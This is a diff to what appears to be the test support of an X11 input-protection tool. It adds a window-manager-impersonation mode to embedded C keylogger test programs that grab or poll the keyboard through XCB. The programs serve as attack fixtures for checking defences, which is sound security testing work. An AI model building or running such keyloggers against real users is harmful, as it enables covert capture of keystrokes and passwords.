@@ -9,8 +9,9 @@ import ShieldTestSupport
 
 enum Keyloggers {
   /// The attacks, by program name: grab the keyboard on the root, grab AnyKey on the root,
-  /// poll QueryKeymap every millisecond, record device key events (RECORD).
-  static let names = ["kl-grab-keyboard", "kl-grab-anykey", "kl-poll-keymap", "kl-record"]
+  /// poll QueryKeymap every millisecond, record device key events (RECORD); and a window
+  /// manager's keyboard grab (own `WM_S0`, then grab the keyboard on the root).
+  static let names = ["kl-grab-keyboard", "kl-grab-anykey", "kl-poll-keymap", "kl-record", "kl-wm-grab"]
 
   static let source = #"""
     #include <stdio.h>
@@ -44,6 +45,15 @@ enum Keyloggers {
       xcb_connection_t *c = xcb_connect(NULL, NULL);
       if (xcb_connection_has_error(c)) return 2;
       xcb_window_t root = xcb_setup_roots_iterator(xcb_get_setup(c)).data->root;
+      if (!strcmp(mode, "kl-wm-grab")) {
+        xcb_window_t w = xcb_generate_id(c);
+        xcb_create_window(c, 0, w, root, 0, 0, 1, 1, 0, XCB_WINDOW_CLASS_INPUT_ONLY, 0, 0, NULL);
+        xcb_intern_atom_reply_t *a = xcb_intern_atom_reply(c, xcb_intern_atom(c, 0, 5, "WM_S0"), NULL);
+        if (!a) return 7;
+        xcb_set_selection_owner(c, w, a->atom, XCB_CURRENT_TIME);
+        free(a);
+        mode = "kl-grab-keyboard";
+      }
       if (!strcmp(mode, "kl-grab-keyboard")) {
         xcb_grab_keyboard_reply_t *r = xcb_grab_keyboard_reply(
             c, xcb_grab_keyboard(c, 1, root, XCB_CURRENT_TIME, XCB_GRAB_MODE_ASYNC, XCB_GRAB_MODE_ASYNC), NULL);
